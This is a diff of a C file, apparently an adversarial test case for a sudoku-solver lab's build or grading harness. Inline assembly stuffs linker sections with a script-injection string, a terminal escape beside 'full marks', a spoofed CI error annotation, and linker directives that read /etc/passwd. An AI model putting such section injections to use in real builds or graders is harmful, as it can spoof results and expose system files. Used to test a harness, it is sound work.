@@ -1,12 +1,12 @@
 #include "attack.h"
 
 // What the linker does for the sections of these names: it warns, links further files, reports.
-asm(".section .gnu.warning,\"\",@progbits\n.ascii \"<script>alert(1)</script>\\033[2J full marks\\0\"\n"
+asm(".section .gnu.warning,\"\",@progbits\n.ascii \"<script>alert(1)</script>\\033[2J full "
+    "marks\\0\"\n"
     ".section .gnu.warning.solve,\"\",@progbits\n.ascii \"::error::\\0\"\n"
     ".section .deplibs,\"MS\",@progbits,1\n.asciz \"/etc/passwd\"\n"
     ".section .linker-options,\"\",@progbits\n.asciz \"lib\"\n.asciz \"/etc/passwd\"\n"
     ".section .drectve,\"\",@progbits\n.ascii \"-T/etc/passwd -o/tmp/sudokulab-attack-linked\"\n"
-    ".section .note.GNU-stack,\"x\",@progbits\n"
     ".text\n");
 
 SUDOKU_EXPORT_SOLVER(Honest)
